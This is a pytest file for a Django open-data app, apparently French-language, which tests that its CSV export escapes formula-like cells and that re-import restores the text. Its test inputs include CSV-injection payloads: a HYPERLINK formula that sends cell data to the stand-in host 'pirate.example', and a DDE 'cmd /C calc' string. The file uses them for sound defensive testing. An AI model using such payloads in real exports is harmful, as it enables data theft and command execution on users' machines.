"""CSV export: cells a spreadsheet would run as formulas are neutralised (OWASP rule),
plain numbers stay numbers, and the table import gives the original text back."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from recensia.opendata.table import neutralise, unneutralise
from recensia.opendata.tabular import import_table, read_table
from recensia.projects.models import Project
from tests.opendata.test_exports import make_register

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("text", [
    '=HYPERLINK("https://pirate.example/?x="&A1;"Cliquez")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-20 % d'eau perdue",
])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["-12.5", "-1 000,50", "+33 1 23 45 67 89", "42",
                                  "Texte ordinaire", "", "'déjà entre apostrophes"])
def test_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


def test_the_csv_export_neutralises_formulas_and_reimports_unchanged(client, reference_lists):
    register = make_register()
    charter = register["charter"]  # its title starts with « = »
    Project.objects.filter(pk=charter.pk).update(
        short_description="-20 % d'appels perdus ; @équipe", keywords="+cmd|calc")
    content = b"".join(client.get(reverse("opendata:csv")).streaming_content)
    rows = {row["slug"]: row for row in
            csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))}
    row = rows[charter.slug]
    assert row["title"] == "'=Charte régionale de l'IA"
    assert row["short_description"] == "'-20 % d'appels perdus ; @équipe"
    assert row["keywords"] == "'+cmd|calc"
    assert row["investment_eur"] == ""
    assert rows[register["callbot"].slug]["investment_eur"] == "25000.5"
    report = import_table(read_table("projets.csv", content))
    assert report.ok and report.updated == 0, str(report)
    charter.refresh_from_db()
    assert charter.title == "=Charte régionale de l'IA"
    assert charter.short_description == "-20 % d'appels perdus ; @équipe"
